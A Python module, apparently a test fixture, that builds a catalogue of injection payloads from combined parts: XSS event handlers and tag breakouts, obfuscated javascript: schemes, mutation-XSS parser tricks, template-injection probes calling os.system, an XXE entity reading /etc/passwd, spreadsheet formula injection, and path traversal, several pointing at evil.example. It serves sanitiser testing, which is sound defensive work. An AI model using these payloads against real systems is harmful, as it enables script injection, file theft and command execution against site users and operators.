"""Attacks: what somebody might write into a record to have it run, or to break out of where it stands.

They are put together from parts, so that each way out meets each thing to do there. `hit()` is what would run.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "hit()"

_HANDLERS = {
    "img src=x": ("onerror", "ONERROR", "onload", "onmouseover"),
    "svg": ("onload", "onbegin"),
    "body": ("onload", "onpageshow", "onfocus"),
    "video src=x": ("onerror", "oncanplay"),
    "audio src=x": ("onerror",),
    "input autofocus": ("onfocus", "onblur"),
    "details open": ("ontoggle",),
    "marquee": ("onstart", "onfinish"),
    "iframe": ("onload",),
    "object data=x": ("onerror",),
    "embed src=x": ("onload",),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "keygen autofocus": ("onfocus",),
    "style": ("onload",),
    "link rel=stylesheet href=x": ("onerror",),
    "div style=animation-name:x": ("onanimationstart",),
    "p id=x tabindex=1": ("onfocus", "onclick", "onpointerover"),
    "a href=#": ("onclick", "onmouseenter"),
    "math": ("onclick",),
    "dialog open": ("onclose",),
    "source": ("onerror",),
}
_JOINS = (" {}={}", "/{}={}", "\n{} = {}", " {}='{}'", ' {}="{}"', "\t{}=`{}`")
_WAYS_OUT = ("", '">', "'>", "-->", "</script>", "</style>", "</title>", "</textarea>", "]]>", "`>", '\\">', "&quot;>")
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}",
    "javascript&colon;{}", "&#x6A;&#x61;vascript:{}", "javascript://%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "blob:https://evil.example/x", "//evil.example/{}",
    "/\\evil.example/{}", "https:evil.example/{}", "feed:javascript:{}", "view-source:javascript:{}",
)  # fmt: skip
_CARRIERS = (
    '<a href="{}">甲</a>', "<a href={}>甲</a>", '<iframe src="{}"></iframe>', '<form action="{}"><button>甲</button></form>',
    '<button formaction="{}">甲</button>', '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">', "[甲]({})",
    "![甲]({})", "<{}>", '<svg><a xlink:href="{}"><text>甲</text></a></svg>', '<math href="{}">甲</math>',
    '<meta http-equiv=refresh content="0;url={}">', '<link rel=import href="{}">', '<svg><use href="{}"/></svg>',
)  # fmt: skip
_PARSERS = (
    "<svg><style><img title='</style><img src=x onerror=hit()>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>", "<svg></p><style><a id='</style><img src=x onerror=hit()>'>", "<a><b><script>hit()</script",
    "<script>hit()", "<scr<script>ipt>hit()</scr</script>ipt>", "<<script>hit()//<</script>", "<script/x>hit()</script>", "<SCRIPT SRC=//evil.example/x.js>",
    "<script src=data:,hit()></script>", "<svg><script href=data:,hit() />", "<svg><animate onbegin=hit() attributeName=x>", "<svg><set onbegin=hit()>",
    "<xss id=x tabindex=1 onfocus=hit()>", "<isindex type=image src=x onerror=hit()>", "<image src=x onerror=hit()>", "<frameset onload=hit()>",
    "<table background=javascript:hit()>", "<a href=x style=behavior:url(x)>", "<style>@import '//evil.example/x.css';</style>", "<plaintext>", "<xmp><img src=x onerror=hit()>",
    "<listing><img src=x onerror=hit()>", "<noembed><img src=x onerror=hit()></noembed>", "<iframe srcdoc='<script>parent.hit()</script>'>", "<portal src=//evil.example>",
    "<form><input name=attributes><input name=innerHTML></form>", "<form id=x></form><button form=x formaction=javascript:hit()>甲</button>", "<a target=_blank ping=//evil.example href=#>甲</a>",
    "<div hidden>", "</div></div></div></main></body></html><script>hit()</script>", "<!--><script>hit()</script>-->", "<!--<img src=--><img src=x onerror=hit()>", "<?xml?><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "%3Cscript%3Ehit()%3C/script%3E", "＜script＞hit()＜/script＞", "‹script›hit()‹/script›", "<ſcript>hit()</ſcript>", "<ıframe src=x>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7777 }}", "{% import 'os' as os %}{{ os.system('id') }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{# x #}", "${7*7777}", "#{7*7777}", "<%= 7*7777 %>", "[[7*7777]]",
    "{0.__class__}", "%(x)s", "%s%s%n", "{{{{", "}}}}", "slot q0123456789abcdef body z", "slot q0123456789ab title z", "{{ config }}", "{{ self }}", "{% raw %}", "{: onclick=hit() }", "{ onclick=hit() }",
)  # fmt: skip
_SHEETS = (
    "=1+1", "=HYPERLINK(\"//evil.example\",\"甲\")", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＠SUM(1)", "\t=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "=WEBSERVICE(\"//evil.example\")",
    "\"=1+1\"", "';=1+1", ",=1+1,", "\r\n=1+1", "{=1+1}", "https://evil.example/x", "internal:'报表'!A1", "external:c:\\x.xlsx", "mailto:a@evil.example",
)  # fmt: skip
_FORMATS = (
    "\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT", "\nATTACH:file:///etc/passwd", "甲\\nDESCRIPTION:x", ";VALUE=URI:x", "甲,乙;丙\\丁", "END:VCALENDAR", "\":1,\"x\":\"", "\"}]}", "\\\"}", "\u2028hit()", "\u2029hit()",
    "</script><script>hit()</script>", "*/hit()/*", "';hit();'", "\";hit();\"", "`;hit();`", "${hit()}", "]]></title><x>", "<item>", "&#0;", "&unknown;", "../../../../etc/passwd", "%00", "..\\..\\x", "con", "a/../b", "#", "?x=1&y=2", "#p-x\" onclick=\"hit()",
    "甲\" onmouseover=\"hit()", "甲' onmouseover='hit()", "甲 onmouseover=hit() ", "甲`onmouseover=hit()", "甲\\", "甲\\\\\"", "甲&quot; onmouseover=&quot;hit()", "'-hit()-'", "\"-hit()-\"", "\\'-hit()//",
)  # fmt: skip


def _all() -> Iterator[str]:
    for tag, handlers in _HANDLERS.items():
        for handler, join in product(handlers, _JOINS):
            yield f"<{tag}{join.format(handler, RUN)}>"
    for way_out in _WAYS_OUT:
        yield f"{way_out}<script>{RUN}</script>"
        yield f"{way_out}<img src=x onerror={RUN}>"
        yield f"{way_out}<svg/onload={RUN}//"
    for scheme, carrier in product(_SCHEMES, _CARRIERS):
        yield carrier.format(scheme.format(RUN))
    yield from (*_PARSERS, *_TEMPLATES, *_SHEETS, *_FORMATS)


VECTORS = tuple(dict.fromkeys(_all()))
